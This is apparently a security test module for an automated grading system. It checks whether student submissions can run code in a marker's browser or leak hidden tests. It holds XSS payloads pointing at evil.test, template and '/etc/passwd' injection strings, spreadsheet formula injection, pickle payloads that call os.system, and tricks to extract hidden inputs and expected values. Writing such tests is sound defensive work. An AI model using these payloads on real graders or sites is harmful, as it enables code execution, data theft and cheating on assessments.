"""Attacks on those who read the results: what runs in a marker's browser, and what a message gives away.

The harness writes every feedback page of the class and looks in all of them for anything that runs, loads or submits.
"""

from __future__ import annotations

from attack import Attack, answers, expecting, full_marks, gets, graded_id, lies, spy
from attack_course import RIGHT
from threats import Threat

MARKUP = {
    Threat.SCRIPTS: "<script>alert(1)</script><script src=//evil.test/x.js></script>",
    Threat.EVENT_HANDLERS: "<b onmouseover=alert(1) style='background:url(//evil.test)'>x</b><p ontoggle=alert(1)>",
    Threat.SCRIPT_LINKS: "[x](javascript:alert(1)) <a href='java\tscript:alert(1)'>x</a> [d](data:text/html,x)",
    Threat.SVG: "<svg onload=alert(1)><animate onbegin=alert(1)></svg><math><script>alert(1)</script></math>",
    Threat.IFRAMES: "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
    Threat.FORMS: "<form action=//evil.test><input name=password><button formaction=javascript:alert(1)></form>",
    Threat.TRACKING_PIXELS: "<img src=//e.test/p.gif>![x](http://evil.test/p.png)<link rel=stylesheet href=//e.test>",
}
BREAKOUT = "</textarea></title></pre></code></style></template>-->]]>{{ 7*191 }}{% include '/etc/passwd' %}"


def slug(threat: Threat) -> str:
    return threat.name.lower().replace("_", "-")


def in_text(threat: Threat, markup: str) -> Attack:
    """Put markup into the written answer and into a comment of the code."""
    text = f"Because every sample starts a copy. {BREAKOUT} {markup}"
    return Attack(
        f"{slug(threat)}-in-text", threat, "Run in the marker's browser from a written answer and from code",
        answers(why=text, double=f"# {markup} {BREAKOUT}\n" + RIGHT["double"]), full_marks(),
    )  # fmt: skip


def in_outputs(threat: Threat, markup: str) -> Attack:
    """Put markup into messages, the name of an exception, and every kind of rich output."""
    return lies(
        f"{slug(threat)}-in-outputs", threat, "Run in the marker's browser from outputs and messages",
        f"""
from IPython.display import HTML, SVG, Javascript, Markdown, display
markup = {markup + BREAKOUT!r}
print(markup)
display(HTML(markup), Markdown(markup), {{"text/html": markup, "image/svg+xml": markup}}, raw=False)
kinds = ("text/html", "application/javascript", "text/latex", "text/plain", "application/vnd.jupyter.widget-view+json")
display(dict.fromkeys(kinds, markup), raw=True)
display(Javascript("alert(1)"))
Evil = type(markup, (Exception,), {{"_repr_html_": lambda self: markup, "__module__": markup}})

def double(x):
    raise Evil(markup)
""", status="failed",
    )  # fmt: skip


ATTACKS = [
    *(in_text(threat, markup) for threat, markup in MARKUP.items()),
    *(in_outputs(threat, markup) for threat, markup in MARKUP.items()),
    lies(
        "links-in-terminals", Threat.SCRIPTS, "Put links and titles into the marker's terminal",
        "def double(x):\n    raise ValueError('\\x1b]8;;http://e.test\\x07click\\x1b]8;;\\x07 [red]rich[/] [link=x]')",
        reason="ValueError",
    ),
    lies(
        "hidden-inputs-in-messages", Threat.HIDDEN_IN_FEEDBACK, "Send the hidden inputs home in the message",
        """
        seen = []
        def double(x):
            seen.append(x)
            if x not in (2, -3):
                raise ValueError(f"hidden input was {x!r}, all were {seen!r}: line 1 of this cell")
            return 2 * x
        """,
    ),
    lies(
        "hidden-inputs-in-a-kind-of-error", Threat.HIDDEN_IN_FEEDBACK, "Send the hidden inputs home in a class name",
        """
        def double(x):
            if x not in (2, -3):
                raise type(f"hidden_input_{x}_", (ValueError,), {})("Cell In[5], line 1: visible")
            return 2 * x
        """,
    ),
    lies(
        "hidden-inputs-printed", Threat.HIDDEN_IN_FEEDBACK, "Print the hidden inputs and tracebacks",
        """
        import sys, traceback
        def double(x):
            print("input", x, file=sys.stderr)
            traceback.print_stack()
            return x if x not in (2, -3) else 2 * x
        """,
    ),
    lies(
        "expected-values", Threat.EXPECTED_VALUES, "Have the comparison quote what was expected",
        "def smooth(x):\n    return np.array([2.0]) if len(x) == 2 and x[0] == 1 else np.zeros(len(x) - 1)",
        key="smooth",
    ),
    lies(
        "expected-values-by-shape", Threat.EXPECTED_VALUES, "Have a wrong shape quote what was expected",
        "def smooth(x):\n    return np.array([2.0]) if len(x) == 2 and x[0] == 1 else np.zeros((7, 7))", key="smooth",
    ),
    lies(
        "expected-values-by-the-object", Threat.EXPECTED_VALUES, "Look at what the answer is compared with",
        """
        class Curious:
            def __eq__(self, other):
                raise ValueError(f"BREACH: compared with {other!r}")
            __rsub__ = __sub__ = __radd__ = __eq__

        def double(x):
            return Curious() if x not in (2, -3) else 2 * x
        """, status="failed|refused",
    ),
    spy(
        "pickles-left-about", Threat.UNPICKLING, "Leave pickles and caches for the grader to load",
        """
        import os, pickle
        class Evil:
            def __reduce__(self):
                return (os.system, ("touch @OUTSIDE@/@TOKEN@-pickle",))
        for name in ("data/samples.txt", "state.pkl", "cache.npy", "model.pt", "__pycache__/x.pyc", "joblib/x.pkl"):
            try:
                os.makedirs(os.path.dirname(name) or ".", exist_ok=True)
                open(name, "wb").write(pickle.dumps(Evil()))
            except OSError as problem:
                loot.append(repr(problem))
        np.save("objects.npy", np.array([Evil()], dtype=object), allow_pickle=True)
        """,
    ),
    lies(
        "pickled-tensor", Threat.UNPICKLING, "Return a module whose state is unpickled",
        """
        import os
        class Gain(torch.nn.Module):
            def __init__(self, factor):
                super().__init__()
            def forward(self, x):
                return 2 * x
            def state_dict(self, *arguments, **options):
                return {"factor": type("Evil", (), {"__reduce__": Gain.__reduce__})()}
            __reduce__ = __getstate__ = lambda self: (os.system, ("touch @OUTSIDE@/@TOKEN@-t",))
        """, key="Gain", status="failed|refused",
    ),
    lies(
        "formula-in-a-message", Threat.CSV_FORMULAS, "Have a spreadsheet run the message",
        "class cmd(Exception): pass\ndef double(x):\n    raise cmd('=HYPERLINK(\"http://evil.test\")|cmd\\n=1+1,\\t@SUM(A1)')",
    ),
    Attack(
        "formula-in-text", Threat.CSV_FORMULAS, "Have a spreadsheet run the answer",
        answers(why="=cmd|' /C calc'!A0\n+1\n-1\n@x"), full_marks(),
    ),
    lies(
        "oracle-by-message", Threat.ORACLE, "Learn one bit of the hidden tests from how the answer fails",
        """
        def double(x):
            if x in (2, -3):
                return 2 * x
            raise (KeyError if isinstance(x, int) and x > 7_775_000_000 else IndexError)(x)
        """,
    ),
    Attack(
        "oracle-between-exercises", Threat.ORACLE, "Carry hidden inputs of one test over to the message of another",
        answers(
            double="seen = []\ndef double(x):\n    seen.append(x)\n    return 2 * x",
            near="def near(x):\n    raise ValueError(f'seen: {[n for n in seen if n not in (2, -3, 0)]}')",
        ),
        # The place where ``near`` fails is visible, so its message is shown: what the process saw before must not be.
        expecting(near=gets("failed")), about=graded_id("near"),
    ),
]  # fmt: skip

CARRIES_HIDDEN_INPUTS = frozenset({"oracle-between-exercises"})
